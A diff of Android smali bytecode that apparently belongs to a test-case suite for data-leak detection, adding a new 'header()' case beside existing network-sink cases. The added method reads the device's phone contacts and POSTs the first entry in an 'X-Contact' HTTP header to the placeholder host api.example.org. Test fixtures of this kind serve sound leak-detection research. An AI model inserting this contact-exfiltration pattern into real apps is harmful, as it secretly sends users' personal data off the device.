@@ -20,21 +20,22 @@
     invoke-direct {p0}, Lcases/endpoint_forms/Main;->socket()V
     invoke-direct {p0}, Lcases/endpoint_forms/Main;->datagram()V
     invoke-direct {p0}, Lcases/endpoint_forms/Main;->apachePost()V
+    invoke-direct {p0}, Lcases/endpoint_forms/Main;->header()V
     invoke-direct {p0}, Lcases/endpoint_forms/Main;->apachePut()V
     invoke-direct {p0}, Lcases/endpoint_forms/Main;->apacheGet()V
     invoke-direct {p0}, Lcases/endpoint_forms/Main;->android()V
     invoke-direct {p0}, Lcases/endpoint_forms/Main;->volley()V
     invoke-direct {p0}, Lcases/endpoint_forms/Main;->unknown()V
-    :l_39
-    goto :l_45
-    :l_3c
+    :l_3d
+    goto :l_49
+    :l_40
     move-exception v0
     const-string v1, "cases"
     const-string v2, "later"
     invoke-static {v1, v2}, Landroid/util/Log;->w(Ljava/lang/String;Ljava/lang/String;)I
-    :l_45
+    :l_49
     return-void
-    .catch Ljava/lang/Exception; {:l_5 .. :l_39} :l_3c
+    .catch Ljava/lang/Exception; {:l_5 .. :l_3d} :l_40
 .end method
 
 .method private connection()V
@@ -292,6 +293,30 @@
     new-instance v3, Lorg/apache/http/impl/client/DefaultHttpClient;
     invoke-direct {v3}, Lorg/apache/http/impl/client/DefaultHttpClient;-><init>()V
     invoke-virtual {v3, v2}, Lorg/apache/http/impl/client/DefaultHttpClient;->execute(Lorg/apache/http/client/methods/HttpPost;)Lorg/apache/http/HttpResponse;
+    return-void
+.end method
+
+.method private header()V
+    .registers 9
+    invoke-virtual {p0}, Lcases/endpoint_forms/Main;->getContentResolver()Landroid/content/ContentResolver;
+    move-result-object v2
+    sget-object v3, Landroid/provider/ContactsContract$CommonDataKinds$Phone;->CONTENT_URI:Landroid/net/Uri;
+    const/4 v4, 0x0
+    const/4 v5, 0x0
+    const/4 v6, 0x0
+    const/4 v7, 0x0
+    invoke-virtual/range {v2 .. v7}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
+    move-result-object v2
+    invoke-static {v2}, Lcases/endpoint_forms/Main;->first(Landroid/database/Cursor;)Ljava/lang/String;
+    move-result-object v0
+    new-instance v1, Lorg/apache/http/client/methods/HttpPost;
+    const-string v3, "https://api.example.org/v1/contacts"
+    invoke-direct {v1, v3}, Lorg/apache/http/client/methods/HttpPost;-><init>(Ljava/lang/String;)V
+    const-string v2, "X-Contact"
+    invoke-virtual {v1, v2, v0}, Lorg/apache/http/client/methods/HttpPost;->setHeader(Ljava/lang/String;Ljava/lang/String;)V
+    new-instance v2, Lorg/apache/http/impl/client/DefaultHttpClient;
+    invoke-direct {v2}, Lorg/apache/http/impl/client/DefaultHttpClient;-><init>()V
+    invoke-virtual {v2, v1}, Lorg/apache/http/impl/client/DefaultHttpClient;->execute(Lorg/apache/http/client/methods/HttpPost;)Lorg/apache/http/HttpResponse;
     return-void
 .end method
 
